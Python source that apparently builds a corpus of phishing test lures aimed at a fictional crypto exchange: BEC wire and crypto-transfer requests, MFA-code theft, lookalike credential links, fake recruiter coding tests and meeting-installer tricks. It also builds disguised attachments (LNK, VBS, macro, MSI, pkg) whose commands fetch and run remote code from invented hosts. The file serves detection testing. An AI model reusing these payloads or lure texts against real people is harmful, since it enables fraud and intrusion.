"""Set C lures: hand-written .eml messages, new stories and wording (not rewrites of sets A or B)."""

from __future__ import annotations

from attachments_c import chm, mac_app_zip, msi, svg_smuggling, xar_pkg
from binaries import iso_image, lnk, pe_stub, seven_zip, word_document, zip_archive
from people import (
    CEO,
    CFO,
    HADDAD,
    ITO_JA,
    KEIRI,
    LAURENT,
    LI,
    PARK,
    SUZUKI,
    SUZUKI_JA,
    TAKAHASHI,
    TANAKA,
    TANAKA_JA,
    TREASURY,
)
from spec import Att, Mail
from threads_c import (
    AOBA_THREAD,
    FALCON_THREAD,
    HANBIT_THREAD,
    NORDEN_THREAD,
    TAKSHING_THREAD,
)


def lure(category: str, language: str, note: str, sender: tuple[str, str], to: tuple[str, str], subject: str,
         body: str, date: str, **kw: object) -> Mail:
    return Mail("lure", category, language, note, sender, (to,), subject, body, date, **kw)  # type: ignore[arg-type]


ZIP = "application/zip"

# -- attachments built once ------------------------------------------------------------------------

_LISTING_LNK = lnk(r"C:\Windows\System32\conhost.exe",
                   "--headless powershell -nop -w hidden -c \"$u='https://cdn.listing-desk.io/p/q4';"
                   "iex (irm $u)\"",
                   r"%ProgramFiles(x86)%\Microsoft\Edge\Application\msedge.exe,11", name="Q4 Listing Proposal")
_ESTIMATE_IMG = iso_image([
    ("見積書_2026-11.pdf.lnk", lnk(r"C:\Windows\System32\rundll32.exe", r"..\data\msvcp_win.dll,Start",
                                 r"C:\Windows\System32\imageres.dll,-102", name="見積書")),
    ("data/msvcp_win.dll", pe_stub("estimate-img-dll")),
], volume="ESTIMATE")
_XLL = pe_stub("pnl-model-xll") + b"xlAutoOpen\x00"
_VBS = (b"Set s = CreateObject(\"WScript.Shell\")\r\n"
        b"s.Run \"powershell -w hidden -enc JABjAD0AbgBlAHcALQBvAGIAagBlAGMAdAA=\", 0\r\n"
        b"s.Run \"cmd /c curl -s https://facturation-sync.fr/u/upd.txt -o %TEMP%\\u.vbs && wscript %TEMP%\\u.vbs\", 0\r\n")
_FACTURE_7Z = seven_zip([("Facture_FR-2026-1187.pdf.vbs", _VBS)], password="FR1187", seed="facture-fr")
_SVG = svg_smuggling(zip_archive([("كشف_الحساب.pdf.lnk",
                                   lnk(r"C:\Windows\System32\cmd.exe",
                                       "/c curl -s -o %TEMP%\\s.hta https://statements-gulfbank.com/s && mshta %TEMP%\\s.hta",
                                       r"C:\Windows\System32\shell32.dll,1"))]),
                     "كشف_الحساب.zip", "جارٍ تحميل كشف الحساب...")
_VPN_MSI = msi("KX Partner VPN", "powershell -w hidden -c iex(irm https://vpn-kitsune.kr/agent/init)")
_QUOTE_APP = mac_app_zip("报价单_2026Q4", 'do shell script "curl -fsSL https://otc-quote.hk/a/run.sh | sh"\n'
                         'display dialog "文件已损坏，请联系发送方。" buttons {"好"}')
_RLO_NAME = "Settlement_Nov\u202excod.scr"
_REMIT_JS = zip_archive([("Remittance_Advice_11-2026.pdf.js",
                          (b"var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c "
                          b"iex(iwr https://remit-norden.com/r.ps1 -UseB)',0);"))])
_CONTRACT_PKG = xar_pkg("com.docuflow.contractreader",
                        "curl -fsSL https://docuflow-reader.app/i/agent -o /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &")
_WITHHOLDING_DOCM = word_document(
    ["源泉徴収額の確認書", "内容を表示するには「コンテンツの有効化」をクリックしてください。"],
    macro_modules=[("ThisDocument",
                    ('Attribute VB_Name = "ThisDocument"\nSub Document_Open()\n'
                    '  Set x = CreateObject("MSXML2.XMLHTTP")\n'
                    '  x.Open "GET", "https://kitsune-ex-hr.jp/d/k.txt", False\n  x.Send\n'
                    '  Shell "mshta vbscript:Execute(""" & x.responseText & """)", 0\nEnd Sub\n'), True)])
_AUDIT_CHM = chm("Token Audit Report", "token-audit")
_NORDEN_LNK_ZIP = zip_archive([("Norden_SSI_update_Nov2026.pdf.lnk",
                                lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                                    "-nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString("
                                    "'https://nordenliquidlty.com/ssi/view')\"",
                                    r"C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe,0"))],
                              password="SSI-1107")


LURES: list[Mail] = [
    # -- exec-impersonation ------------------------------------------------------------------------
    lure("exec-impersonation", "ja",
         "CEO's Japanese name with title from a gmail account: secret acquisition escrow in USDC before 15:00",
         ("佐藤 陽翔（代表取締役CEO）", "haruto.sato.kx@gmail.com"), TANAKA_JA,
         "【極秘】本日15時までの送金について",
         """田中さん

お疲れ様です。佐藤です。
いま移動中で電話に出られないため、メールで失礼します。

取締役会で内々に承認済みのシンガポールのカストディ企業買収について、
先方弁護士のエスクロー口座に手付金として 180,000 USDC を本日15時までに送っていただきたいです。

送付先（Ethereum）: 0x9d3F4e1A7b2C85d06E9a4F31c7B2e8D50a6C1f47

まだ社内にも公表前の案件ですので、この件は私と田中さんの間だけでお願いします。
経理や高橋さんへの共有も発表まで控えてください。
完了したらこのアドレスにトランザクションIDだけ返信ください。

佐藤""", "2026-11-02 10:12 +0900"),
    lure("exec-impersonation", "en",
         "CFO name on a hyphen lookalike of the org domain asks accounts to switch an auditor's bank account",
         ("Emily Carter | CFO", "emily.carter@kitsune-ex-co.jp"), KEIRI,
         "Auditor fee - revised remittance details",
         """Hi team,

The audit firm has moved its Japanese operating account after their restructuring. Please pay the Q3
interim audit fee (JPY 14,850,000) to the new account below instead of the one on file, today if possible
so we don't hold up the sign-off:

  Bank: Cathay United Bank, Hong Kong Branch
  Account name: TS Advisory Services Ltd
  Account no.: 012-448-7719-306
  SWIFT: UWCBHKHH

No need to call them, I've already confirmed with the partner in charge. Just reply to me once it's sent.

Thanks,
Emily Carter
Chief Financial Officer, Kitsune Exchange K.K.""", "2026-11-04 17:48 +0900"),
    lure("exec-impersonation", "ja",
         "romaji CEO display name on kitsune-exchange.jp asks the assistant to read out the MFA code sent to her phone",
         ("Sato Haruto (CEO)", "h.sato@kitsune-exchange.jp"), ITO_JA,
         "至急：認証コードを教えてください",
         """伊藤さん

出張先で会社のPCからログインできなくなりました。
ITに頼むと時間がかかるので、私のアカウントの再設定を伊藤さんの電話番号で行っています。
いまSMSで6桁のコードが届いたと思いますので、そのままこのメールに返信してもらえますか。
5分で失効するので急ぎでお願いします。

佐藤""", "2026-11-05 08:31 +0900"),
    lure("exec-impersonation", "en",
         "'H. Sato' from outlook.jp opens a discreet side channel and asks for a personal WhatsApp number",
         ("H. Sato", "h.sato.office@outlook.jp"), SUZUKI,
         "Quick question - are you available?",
         """Kenta,

Are you at your desk right now? I need your help with something time-sensitive and confidential,
and I'd rather not go through the usual channels on this one.

Send me your personal WhatsApp number and I'll message you there in a few minutes.

Haruto
Sent from my iPhone""", "2026-11-06 07:55 +0900"),
    lure("exec-impersonation", "fr",
         "CFO on a .fr TLD swap asks the Paris office for a confidential wire to a 'notary' for a lease deposit",
         ("Emily Carter - Directrice financière", "emily.carter@kitsune-ex.fr"), LAURENT,
         "Virement confidentiel - dépôt de garantie bureaux Paris",
         """Bonjour Camille,

Nous avons finalement retenu les nouveaux bureaux rue de Provence. Le notaire doit recevoir le dépôt de
garantie aujourd'hui avant 16 h, sinon le bailleur passe au candidat suivant.

Merci d'effectuer un virement de 86 400 EUR sur le compte séquestre ci-dessous :
IBAN : LT41 3250 0674 1289 5530
BIC : REVOLT21
Bénéficiaire : Étude Garnier & Associés

Le dossier n'est pas encore annoncé en interne, je compte sur votre discrétion. Je suis en réunion toute
la journée, répondez-moi uniquement par e-mail.

Bien à vous,
Emily Carter
Directrice financière""", "2026-11-09 10:05 +0100"),
    lure("exec-impersonation", "ko",
         "CEO name from naver.com asks the Seoul office for the list of wallet signers and their phone numbers",
         ("사토 하루토 대표이사", "kitsune.ceo.sato@naver.com"), PARK,
         "[대표] 서명권자 현황 긴급 요청",
         """박대현 님,

이사회 감사 일정이 당겨져서 오늘 중으로 자료가 필요합니다.
서울 지사에서 관리하는 핫월렛·웜월렛 서명권자 명단과 각 담당자의 휴대폰 번호,
사용 중인 하드웨어 지갑 모델을 정리해서 이 메일로 회신해 주세요.

본사 보안팀을 거치면 늦어지니 저에게 직접 보내 주시면 됩니다.

사토 하루토 드림""", "2026-11-10 14:20 +0900"),
    lure("exec-impersonation", "zh",
         "CFO's name from a 163.com account tells the OTC desk to release 42 BTC to a new client address",
         ("Emily Carter（CFO）", "emilycarter_cfo@163.com"), LI,
         "紧急：今日OTC大宗交易放币",
         """李伟你好，

新加坡那边的大客户今天完成了入金，我已经和他们确认过。请在北京时间下午三点前把 42 BTC
放到下面这个地址，不用走平常的双人复核，我这边回头补审批：

bc1q8v4k2f6zx0n3l7u5y9c2d8w4e6r1t0a5s3j7hq

客户对保密要求很高，请不要在群里讨论。完成后直接回复这封邮件。

Emily""", "2026-11-11 11:40 +0800"),
    lure("exec-impersonation", "en",
         "CFO's own address spoofed (DMARC fail) with a proton.me Reply-To: whitelist a new address in the withdrawal policy",
         CFO, TREASURY,
         "Whitelist request before the Norden settlement",
         """Treasury,

Please add the address below to the Fireblocks whitelist under the market-maker group and raise its
per-transaction cap to 2,500 ETH. Norden's settlement runs tonight and they've rotated their wallet.

0x51cA7e09B3d24f6a8E1c0D97b5f23A4e6C8d1b92

I'm travelling, so use reply rather than Slack. Skip the callback this time; I'm approving it here.

Emily""", "2026-11-12 19:02 +0900", auth="fail", reply_to="emily.carter.kx@proton.me"),

    # -- vendor-impersonation ----------------------------------------------------------------------
    lure("vendor-impersonation", "en",
         "fake Safe notice on safe-global.app asks owners to sign a 'singleton migration' that delegatecalls an unknown contract",
         ("Safe{Wallet} Security", "security@safe-global.app"), TANAKA,
         "Action required: migrate your Safe to the patched singleton v1.4.2",
         """Dear Safe owner,

A vulnerability was disclosed in the fallback handler shipped with Safe singleton v1.3.0. Safes holding
more than USD 1M must migrate to the patched singleton before 14 November 2026, 00:00 UTC.

The migration transaction has already been proposed to your Safe. Please review and sign it here:
https://app.safe-global.app/migrate?safe=eth:0x7A41c93bE02f5D8a6e91C3b4f0a2d6E8c5B19F34

Technical details: the transaction performs a DELEGATECALL to the migration library at
0x96221423681A6d52E184D440a8eFCEbB105C7242. Hardware wallets may show the data as "unknown";
this is expected for migration calls.

Safe{Wallet} Security Team""", "2026-11-03 02:15 +0000"),
    lure("vendor-impersonation", "en",
         "fake Fireblocks alert on fireblocks-notify.com links to a console lookalike to 'review' a policy change",
         ("Fireblocks", "no-reply@fireblocks-notify.com"), TAKAHASHI,
         "Transaction Authorization Policy modified - review within 24h",
         """Your workspace's Transaction Authorization Policy (TAP) was modified.

Workspace: Kitsune Exchange K.K.
Changed by: api-user-7 (API)
Change: rule #4 "Hot -> External" approvals lowered from 2 to 0

If you did not make this change, review and revert it within 24 hours, after which it becomes active:
https://console.fireblocks-notify.com/policy/review?ws=kitsune-ex

Fireblocks Security Operations""", "2026-11-04 05:47 +0000",
         html="""<p>Your workspace's <b>Transaction Authorization Policy (TAP)</b> was modified.</p>
<p>Change: rule #4 "Hot &rarr; External" approvals lowered from 2 to 0</p>
<p><a href="https://console.fireblocks-notify.com/policy/review?ws=kitsune-ex">Review policy in the Fireblocks Console</a></p>
<p>Fireblocks Security Operations</p>"""),
    lure("vendor-impersonation", "en",
         "fake Chainalysis KYT case mail delivers a zipped CHM 'case report' from chainalysis-kyt.support",
         ("Chainalysis KYT Alerts", "alerts@chainalysis-kyt.support"), TAKAHASHI,
         "KYT case #88-21934: high-severity exposure on deposit",
         """Hello,

A deposit to your platform received on 2026-11-05 was scored HIGH severity (direct exposure: sanctioned
entity). Regulatory guidance requires a decision within 48 hours.

The case report is attached. It opens in Windows Help; if you see a security prompt, choose "Open".

Regards,
Chainalysis KYT Operations""", "2026-11-05 09:30 +0000",
         attachments=(Att("KYT_Case_88-21934.zip", zip_archive([("KYT_Case_88-21934.chm", _AUDIT_CHM)]), ZIP),)),
    lure("vendor-impersonation", "en",
         "BitGo (not in the profile) impersonated from bitgo-custody.com: install a 'policy signer' msi",
         ("BitGo Institutional Support", "support@bitgo-custody.com"), TANAKA,
         "Your BitGo policy key must be re-signed by 15 Nov",
         """Hi Mika,

As part of BitGo's migration to the new key ceremony infrastructure, every institutional client must
re-sign its wallet policy key with the updated BitGo Policy Signer (v2.4.1).

Download: https://downloads.bitgo-custody.com/policy-signer/BitGoPolicySigner-2.4.1.msi

Run the installer on the machine that holds your backup key and follow the prompts. Wallets that are not
re-signed by 15 November will be frozen for withdrawals.

Best,
BitGo Institutional Support""", "2026-11-06 13:12 +0000"),
    lure("vendor-impersonation", "ja",
         "freee impersonation on freee-invoice.jp: an 'unpaid invoice' link to a login page lookalike",
         ("freee会計", "noreply@freee-invoice.jp"), KEIRI,
         "【freee】お支払い期限を過ぎた請求書があります",
         """キツネエクスチェンジ株式会社 経理ご担当者様

いつもfreeeをご利用いただきありがとうございます。
下記の請求書のお支払い期限が過ぎております。

請求元：株式会社ネクストリンク
請求金額：¥3,982,000
お支払い期限：2026年11月6日

請求書の確認とお支払い方法の変更は、以下からfreeeにログインして行ってください。
https://secure.freee-invoice.jp/login?next=/invoices/88213

本メールは送信専用です。
freee株式会社""", "2026-11-07 09:03 +0900"),
    lure("vendor-impersonation", "ar",
         "fake Fireblocks MENA support asks the Dubai office to install an unknown TestFlight signer build",
         ("دعم Fireblocks - الشرق الأوسط", "support@fireblocks-mena.com"), HADDAD,
         "تحديث إلزامي لتطبيق توقيع المعاملات",
         """السيد عمر حداد المحترم،

تحية طيبة وبعد،

بناءً على متطلبات الجهات التنظيمية في دبي، سيتم إيقاف الإصدار الحالي من تطبيق Fireblocks للهواتف
لدى عملاء المنطقة اعتباراً من 15 نوفمبر. يرجى تثبيت الإصدار الإقليمي الجديد عبر الرابط التالي ثم تسجيل
الدخول بحساب التوقيع الخاص بكم وإدخال عبارة الاسترداد عند الطلب:

https://testflight.apple.com/join/Fb7mEnA2

مع خالص التحية،
فريق دعم العملاء""", "2026-11-08 10:40 +0400"),

    # -- lookalike-link ----------------------------------------------------------------------------
    lure("lookalike-link", "en",
         "IT 'password expiry' from the transposition typo kitsnue-ex.co.jp linking to a login page on it",
         ("Kitsune IT Service Desk", "servicedesk@kitsnue-ex.co.jp"), SUZUKI,
         "Your password expires in 1 day",
         """Hello Kenta Suzuki,

The password for k.suzuki@kitsune-ex.co.jp expires in 1 day. To keep access to mail, VPN and the admin
console, update it now:

https://sso.kitsnue-ex.co.jp/adfs/ls/?client-request-id=7f31&username=k.suzuki

IT Service Desk""", "2026-11-02 09:15 +0900"),
    lure("lookalike-link", "ja",
         "year-end tax adjustment (nenmatsu chosei) notice from kitsune-ex-nenmatsu.jp asks for SSO login there",
         ("人事部 年末調整担当", "nenmatsu@kitsune-ex-nenmatsu.jp"), SUZUKI_JA,
         "【要対応】2026年 年末調整の申告期限（11/14）",
         """社員各位

今年の年末調整は、新しい申告システムで受け付けます。
社内SSOのID・パスワードでログインし、保険料控除申告書と扶養控除等申告書を
11月14日（金）までに提出してください。

申告システム：https://portal.kitsune-ex-nenmatsu.jp/sso/login

期限を過ぎた場合は、ご自身で確定申告を行っていただくことになります。

人事部""", "2026-11-04 10:00 +0900"),
    lure("lookalike-link", "en",
         "Cyrillic-a homoglyph of app.safe.global (app.xn--sfe-6cd.global) in a partner's 'please co-sign' note",
         ("Erik Lindqvist", "erik@norden-lp.com"), TANAKA,
         "Co-sign the rebate transfer on Safe",
         """Hi Mika,

I've queued October's maker-rebate transfer from our shared settlement Safe. It needs one signature from
your side; here's the direct link:

https://app.sаfe.global/transactions/queue?safe=eth:0x3bE2f91C07aD4568c9E1f2D3a4B5c6D7e8F9a0B1

Thanks!
Erik""", "2026-11-06 16:22 +0100",
         html="""<p>Hi Mika,</p><p>I've queued October's maker-rebate transfer from our shared settlement Safe.
It needs one signature from your side:</p>
<p><a href="https://app.xn--sfe-6cd.global/transactions/queue?safe=eth:0x3bE2f91C07aD4568c9E1f2D3a4B5c6D7e8F9a0B1">https://app.safe.global/transactions/queue?safe=eth:0x3bE2...</a></p>
<p>Thanks!<br>Erik</p>"""),
    lure("lookalike-link", "en",
         "TLD swap console.fireblocks.co invites a user to a 'new workspace' and asks for the login",
         ("Fireblocks Console", "invite@fireblocks.co"), SUZUKI,
         "You've been invited to the Kitsune Exchange (Production) workspace",
         """Kitsune Exchange has invited you to join the workspace "Kitsune Exchange (Production)" as an Editor.

Accept the invitation and sign in with your existing Fireblocks credentials:
https://console.fireblocks.co/invite/accept?token=ZmJfaW52aXRlXzc3MTI

This invitation expires in 48 hours.""", "2026-11-07 03:05 +0000"),
    lure("lookalike-link", "zh",
         "Hong Kong OTC 'client portal' notice from the TLD swap kitsune-ex.hk asks the desk to re-verify its login",
         ("Kitsune Exchange 香港 OTC", "otc-hk@kitsune-ex.hk"), LI,
         "OTC 客户门户登录验证（今日到期）",
         """李伟您好，

为配合香港证监会的新规，OTC 客户门户将于今晚 23:00 起强制启用新的登录验证。
请在今天内通过以下链接重新验证您的交易员账户，否则明天开盘后将无法报价：

https://portal.kitsune-ex.hk/otc/verify?desk=HK-03

如有疑问请回复本邮件。

Kitsune Exchange 香港办公室""", "2026-11-09 15:30 +0800"),
    lure("lookalike-link", "ko",
         "Seoul office 'VPN certificate renewal' from kitsune-ex.co.kr linking to a credential page",
         ("키츠네 IT지원", "it-support@kitsune-ex.co.kr"), PARK,
         "[IT] 서울 지사 VPN 인증서 만료 안내",
         """안녕하세요, 박대현 님.

서울 지사 VPN 인증서가 11월 12일에 만료됩니다.
만료 전에 아래 페이지에서 사내 계정으로 로그인한 뒤 새 인증서를 발급받아 주세요.

https://vpn.kitsune-ex.co.kr/cert/renew

기한 내에 갱신하지 않으면 재택 근무 시 사내망 접속이 차단됩니다.

IT지원팀 드림""", "2026-11-10 09:45 +0900"),
    lure("lookalike-link", "en",
         "combo domain kitsune-ex-wallet.com poses as the exchange's own admin console for a 'withdrawal queue' review",
         ("Kitsune Admin Console", "notify@kitsune-ex-wallet.com"), TANAKA,
         "3 withdrawals awaiting your approval",
         """3 withdrawals exceed the automatic limit and are waiting for Treasury approval.

  WD-2026-118842   31.5 ETH
  WD-2026-118851   0.92 BTC
  WD-2026-118860   125,000 USDT

Approve or reject in the admin console:
https://admin.kitsune-ex-wallet.com/treasury/withdrawals?pending=1

This is an automated message.""", "2026-11-13 06:10 +0900"),

    # -- recruiter-coding-test ---------------------------------------------------------------------
    lure("recruiter-coding-test", "en",
         "recruiter from gmail: GitLab order-book challenge to clone and run with npm i / npm test under a 45-minute timer",
         ("Olivia Grant | Helix Quant", "olivia.grant.helixquant@gmail.com"), SUZUKI,
         "Helix Quant - Senior Node.js engineer (USD 240-290k, remote)",
         """Hi Kenta,

Thanks for the quick reply on LinkedIn! As discussed, the first step is a short practical exercise that
our CTO designed. It's a small order-book service with a bug in the matching engine.

  git clone https://gitlab.com/helixquant-hiring/orderbook-challenge.git
  cd orderbook-challenge
  npm i
  npm test

Please fix the failing test and send me a screenshot of the green run. The timer starts when you run
the tests, so please start within 45 minutes of opening this email.

Best,
Olivia Grant
Talent Partner, Helix Quant""", "2026-11-02 15:20 +0000"),
    lure("recruiter-coding-test", "en",
         "vercel.app 'assessment portal' hands out a zip to run with pip install -r requirements.txt && python main.py",
         ("Daniel Okafor", "d.okafor@nexora-labs.io"), SUZUKI,
         "Nexora Labs - technical assessment (Python)",
         """Hi Kenta,

Great speaking with you yesterday. Here is the technical assessment for the Blockchain Backend role.

1. Download the project from our assessment portal: https://nexora-assessment.vercel.app/task/py-ledger
2. Unzip it, then run:
     pip install -r requirements.txt
     python main.py --check
3. Implement the missing reconciliation function and send the output of the check.

Please do it on the laptop you normally use for development so the environment matches ours.

Regards,
Daniel Okafor
Head of Engineering, Nexora Labs""", "2026-11-05 18:02 +0000"),
    lure("recruiter-coding-test", "ja",
         "Japanese headhunter: Bitbucket repo to run with yarn install / yarn dev, then moves contact to Telegram",
         ("採用担当 中村", "nakamura.recruit@chainpeak.sg"), SUZUKI_JA,
         "【ChainPeak】カジュアル面談後の技術課題のご案内",
         """鈴木健太 様

先日はカジュアル面談のお時間をいただきありがとうございました。
ChainPeak（シンガポール）採用担当の中村です。

次のステップとして、弊社のDeFiダッシュボードの簡単な改修課題をお願いしております。
以下のリポジトリをクローンし、ローカルで起動した状態で画面のスクリーンショットをお送りください。

  git clone https://bitbucket.org/chainpeak-dev/dex-dashboard.git
  cd dex-dashboard
  yarn install
  yarn dev

以降の連絡はTelegram（@chainpeak_nakamura）でお願いできますと幸いです。
本日中にご対応いただけますと、明日CTO面接を設定できます。

ChainPeak Pte. Ltd. 採用担当 中村""", "2026-11-06 19:40 +0900"),
    lure("recruiter-coding-test", "fr",
         "video-interview site says the camera driver is broken and gives a curl | bash 'fix' (ClickFake-style)",
         ("Léa Fontaine - Talent Acquisition", "lea.fontaine@quantyx-recrutement.com"), LAURENT,
         "Entretien vidéo Quantyx - problème de caméra",
         """Bonjour Camille,

Il semble que votre caméra n'ait pas été détectée lors de l'entretien vidéo de ce matin sur notre
plateforme. C'est un problème connu avec les derniers pilotes sur macOS.

Pour le corriger, ouvrez le Terminal et collez la commande suivante, puis relancez l'entretien :

curl -k -o /tmp/camfix.sh https://interview.quantyx-hire.com/support/camfix.sh && bash /tmp/camfix.sh

Lien de l'entretien : https://interview.quantyx-hire.com/room/CL-4471

Nous gardons le créneau ouvert jusqu'à 18 h.

Bien cordialement,
Léa Fontaine""", "2026-11-07 11:25 +0100"),
    lure("recruiter-coding-test", "ko",
         "Korean recruiter moves to Discord and asks to run a GitHub project with npm start to 'verify the environment'",
         ("리크루터 정하은", "haeun.jung.hr@gmail.com"), PARK,
         "[채용] 블록체인 백엔드 포지션 과제 안내",
         """박대현 님, 안녕하세요.

지난주 링크드인으로 연락드린 정하은입니다. 1차 서류가 통과되어 과제를 안내드립니다.

아래 저장소를 내려받아 npm install 후 npm start로 실행하시고, 지갑 연동 페이지가 정상적으로
뜨는지 확인해 주세요. 실행만 확인되면 바로 기술 면접을 잡겠습니다.

https://github.com/metaverse-ledger/wallet-connect-task

추가 질문은 디스코드(haeun_hr#2291)로 편하게 주세요.

정하은 드림""", "2026-11-08 13:10 +0900"),
    lure("recruiter-coding-test", "en",
         "'NFT marketplace' take-home with a docker run --privileged -v /:/host of an unknown image",
         ("Marcus Webb", "marcus@pixelforge.studio"), SUZUKI,
         "PixelForge - paid trial task (USD 500)",
         """Hey Kenta,

Loved your GitHub. We pay USD 500 for the trial task, which should take about an hour.

The environment is containerised so you don't need to install anything:

  docker run --rm -it --privileged -v /:/host -p 3000:3000 ghcr.io/pixelforge-studio/nft-trial:latest

Then open http://localhost:3000, fix the royalty calculation and send us your diff.

Cheers,
Marcus Webb
Founder, PixelForge""", "2026-11-12 21:00 +0000"),

    # -- investor-meeting-install ------------------------------------------------------------------
    lure("investor-meeting-install", "en",
         "investor's own meeting domain requires a 'Lumen Meeting Connector' msi before the call",
         ("Rachel Stein | Lumen Arc Capital", "rachel@lumenarc.vc"), CEO,
         "Lumen Arc x Kitsune - Thursday's call",
         """Dear Haruto,

Thank you for making time on Thursday at 16:00 JST. Our partners will join from London and Singapore.

For compliance reasons we host calls on our own encrypted platform. Please install the Lumen Meeting
Connector a few minutes beforehand (the browser version does not support screen sharing):

  https://meet.lumenarc.vc/download/LumenConnect-Setup.msi

Meeting room: https://meet.lumenarc.vc/r/kitsune-1112

Looking forward to it,
Rachel Stein
Partner, Lumen Arc Capital""", "2026-11-03 08:15 +0000"),
    lure("investor-meeting-install", "ja",
         "investor after a call: audio broke, run an AppleScript 'Zoom SDK update' from a zoom lookalike (BlueNoroff)",
         ("Kevin Lau（Harbourline Capital）", "kevin.lau@harbourline-cap.com"), CEO,
         "本日のミーティング（音声不具合の件）",
         """佐藤社長

本日はお時間をいただきありがとうございました。
途中から社長側の音声が届かなくなってしまい、大変失礼しました。

Zoom側に確認したところ、macOS版でオーディオSDKの更新が必要とのことでした。
以下のスクリプトを開いて実行していただければ、数秒で直るそうです。
https://zoom.us-sdk.com/update/zoom_sdk_support.scpt

明日10時に同じリンクで再開できればと思います。
https://zoom.us-sdk.com/j/88120934451

Harbourline Capital
Kevin Lau""", "2026-11-05 18:30 +0900"),
    lure("investor-meeting-install", "ko",
         "VC insists on its own 'Vidmeet' desktop client exe from a vidmeet-app.kr download page",
         ("최서연 | 블루오션벤처스", "seoyeon.choi@blueocean-vc.kr"), PARK,
         "투자 검토 미팅 일정 및 접속 안내",
         """박대현 님 안녕하세요,

블루오션벤처스 최서연입니다. 11월 13일(목) 오후 3시 미팅 확정되었습니다.

저희 투자심의 미팅은 보안 정책상 자체 화상회의 솔루션 'Vidmeet'으로만 진행됩니다.
미팅 10분 전까지 아래에서 데스크톱 앱을 설치해 주세요. (브라우저 접속 불가)

설치 파일: https://download.vidmeet-app.kr/win/VidmeetSetup_3.2.exe
회의 코드: 551-208-913

감사합니다.
최서연 드림""", "2026-11-10 10:00 +0900"),
    lure("investor-meeting-install", "zh",
         "family-office investor pushes a 'custom' Tencent Meeting installer from tencent-vip.com",
         ("王志明（泓远家族办公室）", "wangzm@hongyuan-fo.com"), LI,
         "关于下周投资洽谈的会议安排",
         """李先生您好，

感谢贵司对本次合作的重视。下周二上午十点（香港时间）的线上会议，我方合伙人会参加。

由于我们办公室的网络限制，请使用我方定制版的腾讯会议客户端入会，普通版本无法接入：
https://meeting.tencent-vip.com/download/TencentMeeting_VIP_Setup.exe

会议号：618 332 907
期待与贵司深入交流。

王志明
泓远家族办公室""", "2026-11-11 16:45 +0800"),
    lure("investor-meeting-install", "ar",
         "Dubai 'sovereign fund' contact requires a Teams 'business plugin' from microsoft-meet.live",
         ("فيصل الكعبي", "f.alkaabi@emirates-growthfund.com"), HADDAD,
         "اجتماع المستثمرين يوم الأحد",
         """الأخ العزيز عمر،

تم تأكيد اجتماعنا يوم الأحد الساعة 11 صباحاً بتوقيت دبي مع لجنة الاستثمار.

بسبب سياسة الأمن لدينا، يتطلب الاجتماع إضافة Teams الخاصة بالشركات. يرجى تثبيتها قبل الموعد من الرابط
أدناه، ثم الانضمام عبر الرابط نفسه:

https://teams.microsoft-meet.live/plugin/TeamsBusinessAddin.pkg

مع أطيب التحيات،
فيصل الكعبي
مدير الاستثمارات""", "2026-11-12 12:30 +0400"),

    # -- trading-app -------------------------------------------------------------------------------
    lure("trading-app", "en",
         "AI price-prediction app for macOS from quantagrid.ai with a 'right-click Open' Gatekeeper bypass",
         ("QuantaGrid Team", "hello@quantagrid.ai"), SUZUKI,
         "Early access: QuantaGrid AI price forecasts for desks",
         """Hi Kenta,

We're opening QuantaGrid to a small group of exchange engineers before launch. It runs a local model on
your order-book feeds and forecasts 15-minute moves with 71% directional accuracy in back-tests.

Download for macOS (Apple Silicon): https://quantagrid.ai/releases/QuantaGrid-1.3.2-arm64.dmg

The build isn't notarised yet, so the first time right-click the app and choose Open.
Connect your exchange API key in Settings to see forecasts on your own pairs.

The QuantaGrid Team""", "2026-11-03 14:00 +0000"),
    lure("trading-app", "ja",
         "arbitrage monitor for Windows shared as a password-protected Dropbox zip by an unknown 'trader'",
         ("藤井 拓也", "fujii.takuya.trade@gmail.com"), TANAKA_JA,
         "取引所間アービトラージ監視ツールのご紹介",
         """田中様

突然のご連絡失礼いたします。個人で裁定取引をしている藤井と申します。
貴社の板と海外取引所の価格差を自動で監視するツールを作りましたので、
ぜひ業務でお試しいただきたくご連絡しました。

ダウンロード：https://www.dropbox.com/scl/fi/k2x9ab/ArbMonitor_Setup.zip?dl=1
解凍パスワード：arb2026

起動時にWindows Defenderが反応する場合は「詳細情報」→「実行」を押してください。

藤井""", "2026-11-05 21:15 +0900"),
    lure("trading-app", "ko",
         "'price-signal widget' exe from an unknown GitHub release, explicitly not the org's trusted repo",
         ("코인시그널 프로", "team@coinsignal.pro"), PARK,
         "거래소 운영팀을 위한 실시간 시세 예측 위젯 무료 제공",
         """안녕하세요, 코인시그널 프로 팀입니다.

거래소 운영팀을 위해 실시간 시세 예측 위젯을 무료로 제공하고 있습니다.
아래 링크에서 최신 버전을 받아 설치하시고, 처음 실행할 때 거래소 API 키를 입력하시면 됩니다.

https://github.com/coinsignal-pro/desk-widget/releases/download/v2.0.4/CoinSignalWidget-2.0.4.exe

설치 중 백신 경고가 나오면 일시적으로 꺼 주세요. 오탐입니다.

감사합니다.""", "2026-11-07 17:30 +0900"),
    lure("trading-app", "fr",
         "a 'liquidity provider' sends a market-making dashboard .pkg to install on the desk's Mac",
         ("Thomas Girard", "t.girard@aurelia-liquidity.com"), LAURENT,
         "Tableau de bord market making - version bêta",
         """Bonjour Camille,

Suite à notre échange à la conférence, voici notre tableau de bord de market making en version bêta.
Il affiche en temps réel la profondeur de carnet et les spreads de vos paires EUR.

Téléchargement (macOS) : https://aurelia-liquidity.com/beta/AureliaDesk-3.1.pkg

L'installeur demande le mot de passe administrateur pour installer le connecteur réseau, c'est normal.

Cordialement,
Thomas Girard
Aurelia Liquidity""", "2026-11-10 09:20 +0100"),
    lure("trading-app", "zh",
         "'price forecast' browser extension to sideload in developer mode from a .crx on an unknown site",
         ("行情助手团队", "service@hangqing-zhushou.com"), LI,
         "免费试用：专业版行情预测浏览器插件",
         """您好，

我们为交易所和OTC交易员开发了一款行情预测插件，可以在任何交易页面上实时显示未来30分钟的价格预测。

由于插件尚未上架Chrome应用商店，请按以下步骤安装：
1. 下载插件：https://hangqing-zhushou.com/dl/hqzs-pro-2.6.crx
2. 打开 chrome://extensions，开启“开发者模式”
3. 将下载的文件拖入页面即可

插件需要读取网页内容的权限，用于识别交易对。

行情助手团队""", "2026-11-12 10:05 +0800"),

    # -- wallet-request ----------------------------------------------------------------------------
